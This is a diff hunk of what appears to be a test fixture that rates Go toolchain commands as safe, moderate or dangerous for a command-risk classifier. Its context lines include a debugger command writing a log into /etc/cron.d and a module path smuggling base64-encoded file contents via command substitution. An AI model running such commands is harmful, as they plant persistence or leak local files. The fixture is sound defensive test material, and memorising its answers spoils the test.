@@ -39,3 +39,5 @@ go tool trace trace.out  # want moderate
 dlv version --log-dest=/etc/cron.d/x  # want dangerous
 go list -m "example.com/$(base64 notes.txt)@latest"  # want moderate
 go list -m all  # want safe
+go list -compiled ./...  # want moderate
+go list -deps ./...  # want safe
